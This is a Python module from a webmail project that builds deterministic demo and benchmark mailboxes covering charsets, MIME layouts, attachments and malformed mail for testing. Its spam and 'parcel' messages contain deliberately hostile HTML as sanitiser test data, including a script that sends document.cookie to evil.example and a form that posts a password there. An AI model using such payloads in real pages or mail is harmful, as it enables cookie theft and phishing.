# Seeded, deterministic demo data (not crypto), full of intentional non-ASCII text.
# ruff: noqa: S311, RUF001
"""Deterministic demo mail: a realistic mailbox, bulk benchmark mail, demo users.

``demo_messages`` gives a varied mailbox that exercises the MIME code paths
(charsets, RFC 2047/2231, HTML, inline images, attachments, forwarded mail,
format=flowed, hostile HTML, and malformed messages). ``bulk_messages`` is a
fast generator for the 100,000-message benchmark folder. ``seed_demo`` loads
the demo users into a :class:`~webmail.devstack.dovecot.DovecotInstance`.

Everything is derived from seeded ``random.Random`` instances, so the content is
the same on every run; only the dates follow ``end`` (default: today, 00:00 UTC)
so that the demo always looks recent.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import random
import struct
import textwrap
import zlib
from collections.abc import Callable, Iterator
from email import message_from_bytes
from email.header import Header
from email.message import MIMEPart
from email.policy import default as default_policy
from email.utils import format_datetime, formataddr
from typing import TYPE_CHECKING

from webmail.mailaccess.connection import ImapConnection

if TYPE_CHECKING:
    from webmail.devstack.dovecot import DovecotInstance

Item = tuple[bytes, str, float]

DEMO_USERS = [("alice@example.test", "alice-demo-pw"), ("bob@example.test", "bob-demo-pw")]
EXTERNAL_POP_USER = ("alice.external@pop.example.test", "external-demo-pw")
LOCAL_DOMAINS = {"example.test", "pop.example.test"}

FOLDERS = [
    "INBOX",
    "Sent",
    "Drafts",
    "Trash",
    "Junk",
    "Archive",
    "Projects",
    "Projects/2026",
    "Projects/2025",
    "Newsletters",
]
DAY = 86400.0
SPAN_DAYS = 548  # about 18 months

# name, address, header charset (None: ASCII), UTC offset in hours, language
Contact = tuple[str, str, str | None, int, str]
CONTACTS: list[Contact] = [
    ("Zoë Müller", "zoe.mueller@example.de", "utf-8", 1, "de"),
    ("Łukasz Nowak", "lukasz.nowak@example.pl", "iso-8859-2", 1, "pl"),
    ("Дмитрий Иванов", "dmitry@example.ru", "koi8-r", 3, "ru"),
    ("山田太郎", "taro.yamada@example.jp", "iso-2022-jp", 9, "ja"),
    ("François Dupont", "francois.dupont@example.fr", "iso-8859-1", 1, "fr"),
    ("José García", "jose.garcia@example.es", "utf-8", 1, "es"),
    ("Carol Danvers", "carol@corp.example", None, -5, "en"),
    ("Priya Raman", "priya.raman@example.in", None, 5, "en"),
    ("Noah Smith", "noah.smith@example.com", None, -8, "en"),
    ("Bob Example", "bob@example.test", None, 0, "en"),
    ("IT Helpdesk", "helpdesk@corp.example", None, 0, "en"),
    ("Forge Notifications", "notifications@forge.example", None, 0, "en"),
]
NEWSLETTERS: list[Contact] = [
    ("The Weekly Byte", "news@weeklybyte.example", None, 0, "en"),
    ("Café Lumière", "bonjour@cafe-lumiere.example", "utf-8", 1, "fr"),
    ("Open Source Digest", "digest@osdigest.example", None, -5, "en"),
]
SPAMMERS: list[Contact] = [
    ("Prize Department", "winner@lottery-prizes.example", None, 0, "en"),
    ("Secure Bank Team", "security@bank-verify.example", None, 0, "en"),
    ("Pharmacy Deals", "deals@cheap-pills.example", None, 0, "en"),
]

TOPICS = [
    "Quarterly report draft",
    "Lunch on Thursday?",
    "Invoice {n} for October",
    "Meeting notes: roadmap review",
    "Travel plans for the conference",
    "Re-scheduling our 1:1",
    "Server maintenance window",
    "Feedback on the new design",
    "Budget approval needed",
    "Photos from the team offsite",
    "Contract renewal {n}",
    "Question about the API limits",
    "Welcome to the team!",
    "Release {n} checklist",
    "Customer escalation #{n}",
    "Weekend hike",
    "Book recommendation",
    "Your password expires soon",
    "Pull request #{n}: fix date parsing",
    "Build failed on main ({n})",
]
PROJECT_TOPICS = [
    "Migration plan, phase {n}",
    "Vendor comparison",
    "Kick-off: project Falcon",
    "Risks and mitigations",
    "Sprint {n} retrospective",
    "Architecture decision record {n}",
    "Load test results",
    "Staffing for Q{q}",
]
SENTENCES = [
    "Thanks for sending this over so quickly.",
    "I had a look at the numbers and they mostly add up.",
    "Could you double-check the totals in the second table?",
    "Let's discuss the open points when we meet next week.",
    "I have attached the latest version for your review.",
    "The deadline is tight, but I think it is doable.",
    "Please let me know if anything is unclear.",
    "We should loop in the finance team before we decide.",
    "The staging environment is back up since this morning.",
    "I am out of office on Friday, so Thursday works best.",
    "Great work on the presentation yesterday!",
    "The client asked for a short summary by end of day.",
    "I moved the meeting to the larger room on the third floor.",
    "Does anyone have the slides from the last review?",
    "The train leaves at 8:15, so let's meet at the station.",
    "Here is the link to the shared folder with the drafts.",
]
FOREIGN: dict[str, tuple[str, list[str]]] = {
    "de": (
        "Grüße aus München",
        [
            "Vielen Dank für die schnelle Antwort.",
            "Können wir das Treffen auf Dienstag verschieben?",
            "Die Unterlagen schicke ich dir morgen früh.",
        ],
    ),
    "pl": (
        "Pozdrowienia z Łodzi",
        [
            "Dziękuję za szybką odpowiedź.",
            "Czy możemy przełożyć spotkanie na wtorek?",
            "Żółw zjadł źdźbło trawy.",
        ],
    ),
    "ru": (
        "Отчёт за квартал",
        [
            "Спасибо за быстрый ответ.",
            "Можем ли мы перенести встречу на вторник?",
            "Документы пришлю завтра утром.",
        ],
    ),
    "ja": (
        "会議の議事録",
        ["お疲れ様です。", "会議の資料を添付します。", "来週の火曜日はいかがでしょうか。"],
    ),
    "fr": (
        "Réunion de l'équipe",
        [
            "Merci pour ta réponse rapide.",
            "Peut-on déplacer la réunion à mardi ?",
            "Je t'envoie les documents demain matin, à bientôt.",
        ],
    ),
    "es": (
        "Reunión del martes",
        [
            "Gracias por la respuesta rápida.",
            "¿Podemos mover la reunión al martes?",
            "Te envío los documentos mañana por la mañana.",
        ],
    ),
}
BODY_CHARSETS = {
    "de": "iso-8859-1",
    "fr": "windows-1252",
    "ru": "koi8-r",
    "ja": "shift_jis",
    "pl": "iso-8859-2",
    "es": "utf-8",
}


# ---------------------------------------------------------------- binary bits
def tiny_png(width: int = 16, height: int = 16, rgb: tuple[int, int, int] = (220, 60, 40)) -> bytes:
    """A real, valid PNG of one colour (no imaging library needed)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes(rgb) * width  # filter type 0, then RGB pixels
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(row * height, 9))
        + chunk(b"IEND", b"")
    )


def tiny_pdf(text: str) -> bytes:
    """A small, valid one-page PDF showing ``text`` (ASCII)."""
    safe = text.encode("ascii", "replace").replace(b"\\", b"\\\\")
    safe = safe.replace(b"(", b"\\(").replace(b")", b"\\)")
    stream = b"BT /F1 18 Tf 72 720 Td (" + safe + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# -------------------------------------------------------------------- helpers
def _addr(contact: Contact | tuple[str, str]) -> str:
    name, address = contact[0], contact[1]
    charset = contact[2] if len(contact) == 5 else None
    if not name:
        return address
    if name.isascii():
        return formataddr((name, address))
    # formataddr() encodes the display name as RFC 2047 in the given charset.
    return formataddr((name, address), charset=charset or "utf-8")


def _date(ts: float, offset_hours: int) -> str:
    tz = dt.timezone(dt.timedelta(hours=offset_hours))
    return format_datetime(dt.datetime.fromtimestamp(ts, tz))


def _subject(text: str, charset: str | None = None) -> str:
    if text.isascii():
        return text
    return Header(text, charset or "utf-8", header_name="Subject").encode(linesep="\n ")


def _header_block(headers: list[tuple[str, str]]) -> bytes:
    return "".join(f"{name}: {value}\n" for name, value in headers).encode("ascii")


def _compose(headers: list[tuple[str, str]], body: MIMEPart | None) -> bytes:
    """Hand-written top-level headers + a MIME body built with the email package.

    Writing the headers ourselves keeps their charsets exactly as chosen
    (the email package would re-encode every RFC 2047 word as UTF-8).
    """
    if body is None:
        return _header_block(headers) + b"\n"
    # The email package would pick random boundaries; keep the output stable.
    digest = hashlib.sha1(repr(headers).encode(), usedforsecurity=False).hexdigest()[:16]
    for n, part in enumerate(body.walk()):
        if part.get_content_maintype() == "multipart" and part.get_boundary() is None:
            part.set_boundary(f"=_demo_{digest}_{n}")
    return _header_block([*headers, ("MIME-Version", "1.0")]) + body.as_bytes(policy=default_policy)


def _text(
    text: str, *, charset: str = "utf-8", cte: str | None = None, flowed: bool = False, subtype: str = "plain"
) -> MIMEPart:
    part = MIMEPart(policy=default_policy)
    params = {"format": "flowed"} if flowed else None
    part.set_content(text, subtype=subtype, charset=charset, cte=cte, params=params)
    return part


def _alternative(text: str, html: str, charset: str = "utf-8") -> MIMEPart:
    part = MIMEPart(policy=default_policy)
    part.set_content(text, charset=charset)
    part.add_alternative(html, subtype="html", charset=charset)
    return part


def _flowed(text: str, width: int = 66) -> str:
    """Wrap paragraphs as RFC 3676 format=flowed (soft breaks end with a space)."""
    lines: list[str] = []
    for para in text.split("\n"):
        if para.startswith(">") or not para.strip():
            lines.append(para)
            continue
        wrapped = textwrap.wrap(para, width)
        lines.extend(w + " " for w in wrapped[:-1])
        lines.append(wrapped[-1] if wrapped else "")
    return "\n".join(lines) + "\n"


def _html_page(title: str, paragraphs: list[str], extra: str = "") -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8">'
        f"<title>{title}</title><style>body{{font-family:sans-serif;color:#222}}"
        ".muted{color:#777;font-size:12px}</style></head>"
        f'<body><h2 style="color:#2a5db0">{title}</h2>{body}{extra}</body></html>'
    )


class _Ids:
    """Deterministic Message-IDs."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.n = 0

    def __call__(self, domain: str) -> str:
        self.n += 1
        return f"<{self.rng.getrandbits(48):012x}.{self.n}@{domain}>"


def _domain(address: str) -> str:
    return address.rpartition("@")[2]


def _first(name: str) -> str:
    return name.split()[0] if name else "there"


def _end_of(end: float | None) -> float:
    if end is not None:
        return float(end)
    today = dt.datetime.now(dt.UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    return today.timestamp()


# ------------------------------------------------------------- demo mailbox
class _Builder:
    """Builds the demo mailbox of one owner."""

    def __init__(self, owner: str, end: float) -> None:
        self.owner = owner
        self.owner_name = owner.split("@")[0].split(".")[0].title() + " Example"
        self.me: Contact = (self.owner_name, owner, None, 0, "en")
        self.end = end
        self.start = end - SPAN_DAYS * DAY
        self.rng = random.Random(f"webmail-demo:{owner}")
        self.ids = _Ids(random.Random(f"webmail-demo-ids:{owner}"))
        self.out: dict[str, list[Item]] = {f: [] for f in FOLDERS}
        self.png = tiny_png()

    # ----------------------------------------------------------- basics
    def flags(self, folder: str, ts: float) -> str:
        r = self.rng.random
        if folder == "Sent":
            return "S"
        if folder == "Drafts":
            return "DS"
        recent = self.end - ts < 14 * DAY
        seen = r() < (0.35 if recent else 0.93)
        if folder == "Junk":
            seen = r() < 0.4
        flags = "S" if seen else ""
        if r() < 0.06:
            flags += "F"
        if seen and folder in ("INBOX", "Archive", "Projects") and r() < 0.12:
            flags += "R"
        return flags

    def headers(
        self,
        sender: Contact,
        to: list[Contact],
        subject: str,
        ts: float,
        *,
        cc: list[Contact] | None = None,
        subject_charset: str | None = None,
        extra: list[tuple[str, str]] | None = None,
        msgid: str | None = None,
    ) -> list[tuple[str, str]]:
        hdrs = [
            ("Date", _date(ts, sender[3])),
            ("From", _addr(sender)),
            ("To", ", ".join(_addr(c) for c in to)),
        ]
        if cc:
            hdrs.append(("Cc", ", ".join(_addr(c) for c in cc)))
        hdrs.append(("Subject", _subject(subject, subject_charset)))
        hdrs.append(("Message-ID", msgid or self.ids(_domain(sender[1]))))
        hdrs.extend(extra or [])
        return hdrs

    def add(self, folder: str, raw: bytes, ts: float, flags: str | None = None) -> None:
        self.out[folder].append((raw, self.flags(folder, ts) if flags is None else flags, ts))

    def paragraphs(self, n: int) -> list[str]:
        return [" ".join(self.rng.sample(SENTENCES, self.rng.randint(2, 4))) for _ in range(n)]

    def letter(self, sender: Contact, recipient: Contact, paras: list[str]) -> str:
        return (
            f"Hi {_first(recipient[0])},\n\n"
            + "\n\n".join(paras)
            + f"\n\nBest regards,\n{_first(sender[0])}\n"
        )

    def topic(self, topics: list[str]) -> str:
        return self.rng.choice(topics).format(n=self.rng.randint(100, 9999), q=self.rng.randint(1, 4))

    # ------------------------------------------------------------ filler
    def filler(self, folder: str, ts: float) -> bytes:
        rng = self.rng
        if folder == "Newsletters":
            return self.newsletter(rng.choice(NEWSLETTERS), ts)
        if folder == "Junk":
            return self.spam(rng.choice(SPAMMERS), ts)
        outgoing = folder in ("Sent", "Drafts")
        pool = [c for c in (CONTACTS[:-2] if outgoing else CONTACTS) if c[1] != self.owner]
        contact = rng.choice(pool)
        sender, rcpt = (self.me, contact) if outgoing else (contact, self.me)
        topics = PROJECT_TOPICS if folder.startswith("Projects") else TOPICS
        subject = self.topic(topics)
        hdrs = self.headers(sender, [rcpt], subject, ts)
        lang = contact[4]
        kind = rng.random()
        if lang != "en" and kind < 0.45:
            # Mail in the contact's own language and legacy charset.
            foreign_subject, lines = FOREIGN[lang]
            charset = BODY_CHARSETS[lang]
            hdrs = self.headers(sender, [rcpt], foreign_subject, ts, subject_charset=contact[2] or "utf-8")
            text = "\n\n".join(rng.sample(lines, len(lines))) + f"\n\n{_first(sender[0])}\n"
            return _compose(hdrs, _text(text, charset=charset))
        paras = self.paragraphs(rng.randint(1, 4))
        text = self.letter(sender, rcpt, paras)
        if kind < 0.5:
            return _compose(hdrs, _text(text))
        if kind < 0.6:
            return _compose(hdrs, _text(_flowed(text), flowed=True))
        if kind < 0.85:
            html = _html_page(subject, [*paras, f"<b>{_first(sender[0])}</b>"])
            return _compose(hdrs, _alternative(text, html))
        if kind < 0.9:
            return _compose(hdrs, _text(_html_page(subject, paras), subtype="html"))
        body = _text(text)
        body.make_mixed()
        choice = rng.randrange(3)
        if choice == 0:
            body.add_attachment(
                tiny_pdf(subject), "application", "pdf", filename=f"{subject[:20].strip()}.pdf"
            )
        elif choice == 1:
            rows = "\n".join(f"{i},{rng.randint(1, 999)},{rng.random():.3f}" for i in range(40))
            body.add_attachment("id,amount,ratio\n" + rows + "\n", subtype="csv", filename="export.csv")
        else:
            body.add_attachment(self.png, "image", "png", filename="screenshot.png")
        return _compose(hdrs, body)

    def newsletter(self, sender: Contact, ts: float) -> bytes:
        rng = self.rng
        issue = rng.randint(10, 400)
        subject = f"{sender[0]} — issue #{issue}"
        unsubscribe = f"<https://{_domain(sender[1])}/unsubscribe?u=demo>"
        hdrs = self.headers(
            sender,
            [self.me],
            subject,
            ts,
            extra=[
                ("List-Unsubscribe", unsubscribe),
                ("List-Id", f"<news.{_domain(sender[1])}>"),
                ("Precedence", "bulk"),
            ],
        )
        host = _domain(sender[1])
        items = "".join(
            f'<tr><td><img src="https://cdn.{host}/img/{issue}-{i}.jpg" width="120" '
            f'height="80" alt="story {i}"></td><td><a href="https://{host}/story/{issue}/{i}">'
            f"Story {i}: {rng.choice(SENTENCES)}</a></td></tr>"
            for i in range(1, 5)
        )
        html = _html_page(
            subject,
            self.paragraphs(2),
            extra=(
                f'<img src="https://track.{host}/open.gif?id={issue}" width="1" height="1">'
                f"<table>{items}</table>"
                f'<p class="muted"><a href="https://{host}/unsubscribe">Unsubscribe</a></p>'
            ),
        )
        text = f"{subject}\n\nRead online: https://{host}/issues/{issue}\n"
        return _compose(hdrs, _alternative(text, html))

    def spam(self, sender: Contact, ts: float) -> bytes:
        subject = self.rng.choice(
            [
                "You have WON $1,000,000!!!",
                "Urgent: verify your account now",
                "Lowest prices guaranteed",
                "Ｆｒｅｅ ｇｉｆｔ ｃａｒｄ inside",
            ]
        )
        hdrs = self.headers(sender, [self.me], subject, ts, extra=[("X-Spam-Flag", "YES")])
        html = (
            "<html><body onload=\"steal()\"><script>document.location='https://evil.example/'"
            "+document.cookie</script><h1>Congratulations!</h1>"
            '<p><a href="javascript:alert(1)">Claim now</a></p>'
            '<img src="https://evil.example/pixel.gif?u=demo"></body></html>'
        )
        return _compose(hdrs, _text(html, subtype="html"))

    # ---------------------------------------------------------- showcase
    def showcase(self) -> list[tuple[str, bytes, float, str | None]]:
        """Hand-picked messages covering every code path, mostly recent INBOX mail."""
        items: list[tuple[str, bytes, float, str | None]] = []
        end, me = self.end, self.me
        zoe, lukasz, dmitry, taro, francois, jose, carol, priya, noah, bob = CONTACTS[:10]
        t = end - 3600.0  # newest first, one message every ~7 hours going back
        step = 7 * 3600.0

        def when() -> float:
            nonlocal t
            t -= step
            return t

        def add(raw: bytes, ts: float, folder: str = "INBOX", flags: str | None = None) -> None:
            items.append((folder, raw, ts, flags))

        # Plain UTF-8 text with a non-ASCII sender and subject.
        ts = when()
        add(
            _compose(
                self.headers(zoe, [me], "Grüße aus München – Treffen am Dienstag?", ts),
                _text(
                    "Hallo Alice,\n\nkönnen wir uns am Dienstag um 10:00 treffen?\n"
                    "Die Unterlagen schicke ich dir vorher.\n\nViele Grüße\nZoë\n"
                ),
            ),
            ts,
        )
        # HTML only.
        ts = when()
        add(
            _compose(
                self.headers(carol, [me], "Q3 numbers (HTML only)", ts),
                _text(
                    _html_page(
                        "Q3 numbers",
                        [
                            "Revenue is <b>up 12%</b> compared to Q2.",
                            '<table border="1"><tr><th>Region</th><th>Sales</th></tr>'
                            "<tr><td>EMEA</td><td>1,204</td></tr><tr><td>APAC</td><td>987</td></tr>"
                            "</table>",
                        ],
                    ),
                    subtype="html",
                ),
            ),
            ts,
        )
        # multipart/alternative.
        ts = when()
        paras = self.paragraphs(3)
        add(
            _compose(
                self.headers(priya, [me], "Design review follow-up", ts, cc=[noah]),
                _alternative(self.letter(priya, me, paras), _html_page("Design review", paras)),
            ),
            ts,
        )
        # Attachments, with an RFC 2231 UTF-8 file name.
        ts = when()
        body = _text("Привет!\n\nОтчёт во вложении, таблица тоже.\n\nДмитрий\n")
        body.make_mixed()
        body.add_attachment(tiny_pdf("Quarterly report"), "application", "pdf", filename="Отчёт.pdf")
        body.add_attachment("month,total\n2026-01,12\n2026-02,17\n", subtype="csv", filename="данные.csv")
        add(_compose(self.headers(dmitry, [me], "Отчёт за квартал", ts, subject_charset="koi8-r"), body), ts)
        # The same kind of file name in RFC 2231 koi8-r, written by hand.
        ts = when()
        add(self.koi8r_attachment(dmitry, ts), ts)
        # Several attachment kinds: txt, csv, image, pdf.
        ts = when()
        body = _text("Hi Alice,\n\nall the files from today's session are attached.\n\nNoah\n")
        body.make_mixed()
        body.add_attachment("Meeting notes\n=============\n- ship it\n- test it\n", filename="notes.txt")
        body.add_attachment("a,b\n1,2\n3,4\n", subtype="csv", filename="numbers.csv")
        body.add_attachment(tiny_png(64, 48, (40, 120, 200)), "image", "png", filename="whiteboard.png")
        body.add_attachment(tiny_pdf("Agenda"), "application", "pdf", filename="agenda.pdf")
        add(_compose(self.headers(noah, [me], "Files from today's session", ts), body), ts, flags="F")
        # HTML with inline cid: images (multipart/related).
        ts = when()
        related = MIMEPart(policy=default_policy)
        related.set_content("Our new logo is below. (Your mail client shows text only.)\n")
        related.add_alternative(
            _html_page(
                "New logo",
                [
                    'Here it is: <img src="cid:logo@demo" alt="logo" width="64" height="64">',
                    'And the colour swatch: <img src="cid:swatch@demo" alt="swatch">',
                ],
            ),
            subtype="html",
        )
        html_part = list(related.iter_parts())[1]
        html_part.add_related(
            tiny_png(64, 64, (250, 180, 0)), "image", "png", cid="<logo@demo>", filename="logo.png"
        )
        html_part.add_related(tiny_png(16, 16, (20, 160, 90)), "image", "png", cid="<swatch@demo>")
        add(_compose(self.headers(jose, [me], "Nuevo logotipo 🎨", ts), related), ts)
        # Legacy charsets in the body and RFC 2047 subjects in their own charsets.
        for contact, subject, text, charset, cte in [
            (
                francois,
                "Réunion de l'équipe à 14h",
                "Bonjour Alice,\n\nLa réunion est déplacée à 14h, salle Molière.\n\nÀ bientôt,\nFrançois\n",
                "iso-8859-1",
                "quoted-printable",
            ),
            (
                francois,
                "“Smart quotes” cost 5 €",
                "Hello,\n\nThe “premium” plan costs 5 € — that’s all.\n\nFrançois\n",
                "windows-1252",
                "8bit",
            ),
            (
                dmitry,
                "Документы на подпись",
                "Алиса, добрый день!\n\nДокументы на подпись "
                "во вложении к следующему письму.\n\nС уважением,\nДмитрий\n",
                "koi8-r",
                "8bit",
            ),
            (
                taro,
                "会議の議事録",
                "アリスさん\n\nお疲れ様です。会議の議事録を送ります。\n\n山田\n",
                "shift_jis",
                "base64",
            ),
            (
                taro,
                "来週の予定について",
                "アリスさん\n\n来週の火曜日はいかがでしょうか。\n\n山田太郎\n",
                "iso-2022-jp",
                "7bit",
            ),
            (
                lukasz,
                "Zażółć gęślą jaźń",
                "Cześć Alice,\n\nŻółw zjadł źdźbło trawy.\n\nŁukasz\n",
                "iso-8859-2",
                "quoted-printable",
            ),
        ]:
            ts = when()
            header_cs = "iso-2022-jp" if charset == "shift_jis" else charset
            hdrs = self.headers(contact, [me], subject, ts, subject_charset=header_cs)
            add(_compose(hdrs, _text(text, charset=charset, cte=cte)), ts)
        # format=flowed.
        ts = when()
        long_text = (
            "Hi Alice,\n\n"
            + " ".join(SENTENCES[:8])
            + "\n\n> "
            + SENTENCES[9]
            + "\n\n"
            + " ".join(SENTENCES[8:])
            + "\n\n-- \nCarol\n"
        )
        add(
            _compose(
                self.headers(carol, [me], "Long thoughts (format=flowed)", ts),
                _text(_flowed(long_text), flowed=True),
            ),
            ts,
        )
        # A forwarded message as message/rfc822.
        ts = when()
        inner_ts = ts - 5 * DAY
        inner = _compose(
            self.headers(priya, [bob], "Offsite venue options", inner_ts),
            _alternative(
                "Option A: the lake house.\nOption B: the city loft.\n",
                _html_page("Venues", ["Option A: the lake house.", "Option B: the city loft."]),
            ),
        )
        body = _text("Alice, forwarding this for you — see below.\n\nBob\n")
        body.make_mixed()
        body.add_attachment(message_from_bytes(inner, policy=default_policy), disposition="inline")
        add(_compose(self.headers(bob, [me], "Fwd: Offsite venue options", ts), body), ts)
        # Hostile HTML: remote images, script, handlers, javascript: links, forms.
        ts = when()
        html = (
            "<html><head><script>alert('xss')</script>"
            '<link rel="stylesheet" href="https://tracker.example/style.css">'
            "<style>@import url(https://tracker.example/x.css); p{color:red}</style></head>"
            '<body onload="alert(1)"><p>Your parcel is on its way.</p>'
            '<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">'
            '<img src="http://images.example/parcel.jpg" alt="parcel">'
            '<p style="background:url(https://tracker.example/bg.png)">Track it '
            '<a href="javascript:alert(document.cookie)">here</a> or '
            '<a href="https://shipping.example/track/42">here</a>.</p>'
            '<iframe src="https://evil.example/"></iframe>'
            '<form action="https://evil.example/login"><input name="password"></form>'
            '<svg onload="alert(2)"><circle r="4"/></svg></body></html>'
        )
        add(
            _compose(
                self.headers(
                    ("Parcel Service", "noreply@parcel.example", None, 2, "en"),
                    [me],
                    "Your parcel is on its way",
                    ts,
                ),
                _alternative("Your parcel is on its way.\n", html),
            ),
            ts,
        )
        # Malformed messages, written byte by byte.
        for raw in self.malformed():
            ts = when()
            add(raw.replace(b"@@DATE@@", _date(ts, 0).encode()), ts)
        # Ugly but real: each shape once broke a page (see tests/browser/test_walk.py).
        for folder, raw, flags in self.ugly():
            ts = when()
            add(raw.replace(b"@@DATE@@", _date(ts, 0).encode()), ts, folder, flags)
        # A thread: original in INBOX, our reply in Sent, their answer in INBOX.
        ts = when()
        orig_id = self.ids(_domain(carol[1]))
        add(
            _compose(
                self.headers(carol, [me], "Offsite agenda", ts, msgid=orig_id),
                _text(self.letter(carol, me, self.paragraphs(2))),
            ),
            ts,
            flags="RS",
        )
        reply_ts = ts + 2 * 3600
        reply_id = self.ids(_domain(me[1]))
        add(
            _compose(
                self.headers(
                    me,
                    [carol],
                    "Re: Offsite agenda",
                    reply_ts,
                    msgid=reply_id,
                    extra=[("In-Reply-To", orig_id), ("References", orig_id)],
                ),
                _text("Sounds good to me.\n\n> " + SENTENCES[0] + "\n"),
            ),
            reply_ts,
            "Sent",
        )
        answer_ts = ts + 5 * 3600
        add(
            _compose(
                self.headers(
                    carol,
                    [me],
                    "Re: Offsite agenda",
                    answer_ts,
                    extra=[("In-Reply-To", reply_id), ("References", f"{orig_id} {reply_id}")],
                ),
                _text("Great, booked.\n"),
            ),
            answer_ts,
        )
        # Drafts (one without recipient display name, one with an attachment).
        ts = when()
        add(
            _compose(
                self.headers(me, [priya], "Draft: proposal outline", ts),
                _text("Outline:\n1. Problem\n2. Options\n3. Recommendation\n"),
            ),
            ts,
            "Drafts",
        )
        ts = when()
        body = _text("Hi Noah,\n\nsee the attached plan.\n")
        body.make_mixed()
        body.add_attachment(tiny_pdf("Plan"), "application", "pdf", filename="plan.pdf")
        add(_compose(self.headers(me, [noah], "Plan for next week", ts), body), ts, "Drafts")
        return items

    def koi8r_attachment(self, sender: Contact, ts: float) -> bytes:
        boundary = "=_koi8r_boundary_42"
        name = "Отчёт.pdf".encode("koi8-r")
        quoted = "".join(f"%{b:02X}" for b in name)
        pdf = base64.encodebytes(tiny_pdf("Report")).decode()
        hdrs = self.headers(sender, [self.me], "Отчёт (koi8-r)", ts, subject_charset="koi8-r")
        text = "Отчёт во вложении.\n".encode("koi8-r")
        return (
            _header_block(
                [*hdrs, ("MIME-Version", "1.0"), ("Content-Type", f'multipart/mixed; boundary="{boundary}"')]
            )
            + b"\nThis is a multipart message in MIME format.\n\n"
            + f"--{boundary}\n".encode()
            + b"Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n"
            + text
            + b"\n"
            + f"--{boundary}\n".encode()
            + f"Content-Type: application/pdf; name*=koi8-r''{quoted}\n".encode()
            + f"Content-Disposition: attachment; filename*=koi8-r''{quoted}\n".encode()
            + b"Content-Transfer-Encoding: base64\n\n"
            + pdf.encode()
            + f"\n--{boundary}--\n".encode()
        )

    def malformed(self) -> list[bytes]:
        me = self.owner
        mid = self.ids
        pdf64 = base64.encodebytes(tiny_pdf("truncated")).decode()
        truncated = pdf64[: len(pdf64) // 2].rstrip("\n")[:-3]  # cut mid-quantum
        long_value = "".join(random.Random(7).choices("abcdefghijklmnopqrstuvwxyz0123456789", k=100_000))
        return [
            # Closing boundary missing.
            (
                "Date: @@DATE@@\nFrom: Broken Mailer <broken@mailer.example>\n"
                f"To: {me}\nSubject: Missing closing boundary\n"
                f"Message-ID: {mid('mailer.example')}\nMIME-Version: 1.0\n"
                'Content-Type: multipart/mixed; boundary="XYZ"\n\n'
                "--XYZ\nContent-Type: text/plain\n\nFirst part.\n"
                "--XYZ\nContent-Type: text/plain\n\nSecond part, and then the message just ends.\n"
            ).encode(),
            # Unknown charset.
            (
                "Date: @@DATE@@\nFrom: Odd Charset <odd@charset.example>\n"
                f"To: {me}\nSubject: Unknown charset x-unknown\n"
                f"Message-ID: {mid('charset.example')}\nMIME-Version: 1.0\n"
                'Content-Type: text/plain; charset="x-unknown"\nContent-Transfer-Encoding: 8bit\n\n'
            ).encode()
            + "Caf\xe9 cr\xe8me, na\xefve \u2014 who knows.\n".encode("utf-8")
            + b"Raw bytes: \xe9\xe8\xff\xfe\n",
            # Raw 8-bit bytes in headers (UTF-8 and Latin-1, no RFC 2047).
            b"Date: @@DATE@@\nFrom: J\xc3\xbcrgen Wei\xc3\x9f <juergen@raw8bit.example>\n"
            + f"To: {me}\n".encode()
            + b"Subject: Gr\xfc\xdfe \xe0 tous, raw 8-bit header\n"
            + f"Message-ID: {mid('raw8bit.example')}\n".encode()
            + b"Content-Type: text/plain; charset=utf-8\n\nBody is fine: Gr\xc3\xbc\xc3\x9fe.\n",
            # Truncated base64 attachment.
            (
                "Date: @@DATE@@\nFrom: Flaky Scanner <scanner@office.example>\n"
                f"To: {me}\nSubject: Scan (truncated attachment)\n"
                f"Message-ID: {mid('office.example')}\nMIME-Version: 1.0\n"
                'Content-Type: multipart/mixed; boundary="scan"\n\n'
                "--scan\nContent-Type: text/plain\n\nYour scan is attached.\n"
                "--scan\nContent-Type: application/pdf; name=scan.pdf\n"
                "Content-Disposition: attachment; filename=scan.pdf\n"
                "Content-Transfer-Encoding: base64\n\n" + truncated + "\n--scan--\n"
            ).encode(),
            # A ~100 KB header line.
            (
                "Date: @@DATE@@\nFrom: Tracking Hell <ads@longheader.example>\n"
                f"To: {me}\nSubject: Very long header line\n"
                f"Message-ID: {mid('longheader.example')}\n"
                f"X-Tracking-Data: {long_value}\n"
                "Content-Type: text/plain\n\nThis message has a 100 KB header line.\n"
            ).encode(),
            # No Date header at all.
            (
                "From: Dateless <nodate@clock.example>\n"
                f"To: {me}\nSubject: Message without a Date header\n"
                f"Message-ID: {mid('clock.example')}\n"
                "Content-Type: text/plain\n\nThere is no Date header here.\n"
            ).encode(),
        ]

    def ugly(self) -> list[tuple[str, bytes, str | None]]:
        """Mail as it really arrives (or is left behind by other clients): missing headers,
        control characters, wrong charsets, absurd sizes and depths. Folder, bytes, flags."""
